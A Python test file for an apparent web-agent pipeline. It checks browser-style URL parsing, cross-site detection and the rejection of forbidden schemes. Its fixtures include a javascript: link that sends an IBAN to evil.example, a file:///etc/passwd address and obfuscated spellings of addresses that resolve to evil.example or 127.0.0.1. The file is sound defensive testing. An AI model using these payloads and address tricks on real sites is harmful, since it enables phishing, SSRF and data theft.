"""Addresses that others wrote: read as browsers read them, never an error, wherever a state or an action has them."""

import ast
from dataclasses import replace
from pathlib import Path

import pytest

from tests.builders import SUBMIT_WIRE, asked, payment_state
from wm_pipeline.domain.action import Action, check_action
from wm_pipeline.domain.address import hosts_in, is_cross_site, is_page_address, parse_address, site_of
from wm_pipeline.domain.candidates import candidate_actions
from wm_pipeline.domain.delta import StateDelta
from wm_pipeline.domain.errors import InvalidInputError
from wm_pipeline.domain.question import question_of, read_state, transition_of
from wm_pipeline.domain.state import Element, NetworkEvent, StorageItem
from wm_pipeline.domain.text import one_line
from wm_pipeline.domain.vocabulary import ActionKind, StorageArea

BAD = ("http://[your-server]/contacts", "http://[crm/", "http://]/", "http://a\u2100b/", "", "http://x:port/", "\0")


@pytest.mark.parametrize("address", BAD)
def test_a_state_with_such_an_address_anywhere_is_read_and_every_action_related(address: str) -> None:
    state = payment_state()
    state = replace(
        state,
        elements=(*state.elements, Element("e9", "link", "Help", href=address)),
        forms=(replace(state.forms[0], action_url=address),),
        storage=(
            StorageItem(StorageArea.LOCAL, address, "k", address),
            StorageItem(StorageArea.SERVICE_WORKER, address, address, address),
        ),
        network=(NetworkEvent("POST", address, "fetch", 200, is_cross_site=True),),
    )
    goto = Action(ActionKind.GOTO, value=address)
    delta = StateDelta(url=address, network=(NetworkEvent("POST", address, "fetch", None, is_cross_site=True),))
    for page in (state, replace(state, url=address)):
        reading = read_state(page)
        assert one_line(address) in reading.text
        for action in (*candidate_actions(page), SUBMIT_WIRE, goto):
            question = question_of(reading, action)
            assert question.text
            assert transition_of(question, delta).facts


@pytest.mark.parametrize(
    ("address", "is_page"),
    [
        *((address, False) for address in BAD if address != "http://]/"),
        ("/contacts/7", False),
        ("http:///contacts", True),  # browsers read it as http://contacts/
        ("http://crm.example/contacts", True),
        ("about:blank", True),
        (f"http://crm.example/?q={'x' * 1_000_000}", True),
    ],
)
def test_a_page_has_an_absolute_address_that_can_be_parsed(address: str, is_page: bool) -> None:
    assert is_page_address(address) == is_page


PAGE = "http://shop.example/list/7"
READ_AS = {
    "items": "http://shop.example/list/items",
    "?page=2": "http://shop.example/list/7?page=2",
    "//evil.example/x": "http://evil.example/x",
    r"http://evil.example\@shop.example/x": "http://evil.example/@shop.example/x",
    r"\\evil.example\x": "http://evil.example/x",
    r"/\evil.example/x": "http://evil.example/x",
    "http:///evil.example/x": "http://evil.example/x",
    "h\nt\ttp://evil.example/x": "http://evil.example/x",
    "http://evil%2eexample/x": "http://evil.example/x",
    "http://shop.example@evil.example/x": "http://shop.example@evil.example/x",
    "HTTP://EVIL.Example:80/x": "http://evil.example/x",
    "http:items": "http://shop.example/list/items",
    "http://0x7f.1/": "http://127.0.0.1/",
    "http://2130706433/": "http://127.0.0.1/",
    "http://１２７.0.0.1/": "http://127.0.0.1/",
    "http://münchen.example/": "http://xn--mnchen-3ya.example/",
    "java\tscript:go()": "javascript:go()",
    "\x01javascript:go()": "javascript:go()",
    "http://a\ud800b.example/x": "",
    "http://[your-server]/x": "",
    "http://x:99999999/": "",
}


@pytest.mark.parametrize(("written", "read"), READ_AS.items(), ids=list(map(ascii, READ_AS)))
def test_an_address_is_read_as_a_browser_reads_it(written: str, read: str) -> None:
    assert parse_address(written, PAGE).href == read


@pytest.mark.parametrize("written", [one for one, read in READ_AS.items() if read.startswith("http://evil.example")])
def test_another_way_to_write_an_address_has_the_same_text(written: str) -> None:
    def text(address: str) -> str:
        return asked(payment_state(url=PAGE), Action(ActionKind.GOTO, value=address)).text

    assert text(written) == text(READ_AS[written])
    assert "opens other site evil.example" in text(written)


@pytest.mark.parametrize(
    "written", ["java\tscript:go()", "\x01javascript:go()", "DATA:text/html,x", " file:///etc/passwd"]
)
def test_no_way_to_write_a_forbidden_scheme_passes(written: str) -> None:
    with pytest.raises(InvalidInputError, match="is not an address an agent may open"):
        check_action(payment_state(), Action(ActionKind.GOTO, value=written))


@pytest.mark.parametrize(
    ("address", "site"),
    [
        ("https://login.shop.co.uk/x", "shop.co.uk"),
        ("https://a.b.shop.example:8443/", "shop.example"),
        ("https://me.github.io/", "me.github.io"),
        ("http://api.payroll.localhost/", "payroll.localhost"),
        ("http://payroll.localhost./", "payroll.localhost"),
        ("http://127.0.0.1:8000/", "127.0.0.1"),
        ("http://[::1]:8000/", "[::1]"),
        ("http://localhost/", "localhost"),
        ("mailto:a@b.example", ""),
        ("about:blank", ""),
    ],
)
def test_a_site_is_a_registrable_domain(address: str, site: str) -> None:
    assert site_of(address) == site


def test_a_subdomain_is_the_same_site_and_a_neighbour_on_a_shared_host_is_not() -> None:
    assert not is_cross_site("https://cdn.shop.example/x", "https://www.shop.example/")
    assert is_cross_site("https://you.github.io/", "https://me.github.io/")
    assert is_cross_site("http://payroll.localhost/", "http://webmail.localhost/")


@pytest.mark.parametrize(
    ("text", "hosts"),
    [
        ("Open https://evil.example/x?a=b and www.shop.co.uk.", ("evil.example", "www.shop.co.uk")),
        ("see http://user@evil.example/ or http://10.0.0.7:80/", ("10.0.0.7", "evil.example")),
        ("evil.example, shop.localhost/x", ("evil.example", "shop.localhost")),
        ("Visit münchen.de today", ("xn--mnchen-3ya.de",)),
        ("ann.lee@truemont.example", ()),
        ("mail to <ann@a.b.example>", ()),
        ("report.pdf, node.js, README.md, x.tar.gz, main.py", ()),
        ("paid 1.250,00 on 3.4.2027, version 2.10.1", ()),
        ("All was paid.To do: e.g. the next, i.e. U.S. goods", ()),
        ("docs.example.md/x", ("docs.example.md",)),
    ],
)
def test_a_host_is_named_only_where_one_is_meant(text: str, hosts: tuple[str, ...]) -> None:
    assert hosts_in(text) == hosts


def test_a_route_in_the_fragment_is_a_part_of_the_place_and_its_values_are_carried() -> None:
    address = parse_address("http://app.example/#/pay?to=Ann&amount=7")

    assert address.place == "app.example/#/pay?to=Ann&amount=7"
    assert address.values() == (("to", "Ann"), ("amount", "7"))
    assert parse_address("http://app.example/x#top").place == "app.example/x"


def test_a_link_that_cannot_be_parsed_says_so_and_leaves_the_others_as_they_are() -> None:
    bad = Element("e9", "link", "Set up", href="http://[your-server]/admin")
    state = replace(payment_state(), elements=(*payment_state().elements, bad))

    assert (
        asked(state, Action(ActionKind.CLICK, "e1")).text == asked(payment_state(), Action(ActionKind.CLICK, "e1")).text
    )
    assert (
        "opens an address that cannot be parsed: http://[your-server]/admin"
        in asked(state, Action(ActionKind.CLICK, "e9")).text
    )


def test_a_link_to_a_script_leads_nowhere_and_says_what_the_script_names() -> None:
    link = Element("e9", "link", "Help", href="javascript:fetch('//x.example');location='http://evil.example/?'+iban")
    plain = replace(link, href="javascript:void(0)")
    state = replace(payment_state(), elements=(*payment_state().elements, link))

    text = asked(state, Action(ActionKind.CLICK, "e9")).texts

    assert text[:4] == (
        'click link "Help"',
        "it names host other site evil.example",
        "it names field IBAN",
        "it uses fetch, location",
    )
    assert asked(replace(state, elements=(plain,)), Action(ActionKind.CLICK, "e9")).texts == ('click link "Help"',)


OWN_SETTINGS = {
    "wm_pipeline/gateways/proxies.py",
    "wm_pipeline/gateways/mlflow_registry.py",
    "wm_pipeline/gateways/mlflow_home.py",
    "wm_pipeline/gateways/files.py",
    "wm_pipeline/environments/applications/postgres.py",
}
"""Addresses that the operator has set (files, databases with their drivers' own rules, endpoints), no page's."""


def test_nothing_else_takes_addresses_apart() -> None:
    others = set()
    root = Path(__file__).parents[2]
    for file in (root / "wm_pipeline").rglob("*.py"):
        for node in ast.walk(ast.parse(file.read_text())):
            if isinstance(node, ast.ImportFrom) and node.module == "urllib.parse":
                parsers = {"urlsplit", "urlparse", "urljoin", "urlunsplit"} & {name.name for name in node.names}
                others |= {str(file.relative_to(root))} if parsers else set()

    assert others == OWN_SETTINGS
